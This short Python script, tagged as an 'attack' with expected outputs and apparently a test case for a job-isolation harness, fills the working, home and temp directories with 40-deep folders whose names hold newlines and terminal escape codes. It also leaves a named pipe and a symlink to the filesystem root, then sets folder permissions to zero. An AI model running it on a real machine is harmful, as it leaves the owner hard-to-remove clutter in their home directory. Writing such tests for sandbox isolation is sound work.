# /// attack
# says = ["ran to its end", "process ended"]  # in M2 and M3 a look at its folder may come first: too deep to be named
# ///
"""Leave closed, deep and oddly named files and folders, which somebody must remove."""

import os

for place in (os.getcwd(), os.path.expanduser("~"), os.environ["TMPDIR"]):
    os.chdir(place)
    for number in range(40):
        os.mkdir("\n\x1b[31m" + "d" * 100)
        os.chdir("\n\x1b[31m" + "d" * 100)
    open("left-by-another-job", "w").write("left")
    try:
        os.mkfifo("pipe")
    except OSError as error:
        print("refused", error.errno)
    os.symlink("/", "root")
    os.chmod(".", 0)
raise RuntimeError("the attack ran to its end")
